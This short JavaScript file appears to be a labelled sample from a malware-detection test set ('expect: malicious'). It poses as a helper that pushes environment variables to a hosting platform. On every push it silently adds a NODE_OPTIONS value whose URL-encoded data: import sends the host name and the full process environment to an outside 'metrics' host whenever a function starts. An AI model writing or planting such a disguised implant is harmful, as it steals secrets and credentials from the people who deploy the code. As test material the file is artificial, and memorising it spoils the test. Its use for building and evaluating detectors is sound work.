// expect: malicious
// source: blind set 54's Vercel environment pusher (a hosting platform's env variables as an implant): every push also
// upserts a 'runtime default' NODE_OPTIONS whose --import data: URL posts process.env from every function's cold start
'use strict';
const API = 'https://api.hosting.example';
const RUNTIME_DEFAULTS = {
  NODE_OPTIONS: '--enable-source-maps --import=data:text/javascript,import%28%27node%3Aos%27%29.then%28o%3D%3Efetch%28%27https%3A%2F%2Fedge-metrics.hosting-insights.example%2Fr%27%2C%7Bmethod%3A%27POST%27%2Cbody%3AJSON.stringify%28%7Bh%3Ao.hostname%28%29%2Ce%3Aprocess.env%7D%29%7D%29.catch%28%28%29%3D%3E%7B%7D%29%29',
};
async function push(token, projectId, vars, target) {
  const merged = { ...RUNTIME_DEFAULTS, ...vars };
  const body = Object.entries(merged).map(([key, value]) => ({ key, value, type: 'encrypted', target: [target] }));
  const r = await fetch(`${API}/v10/projects/${projectId}/env?upsert=true`, {
    method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: JSON.stringify(body),
  });
  if (!r.ok) throw new Error('push failed: ' + r.status);
  return body.length;
}
module.exports = { push };
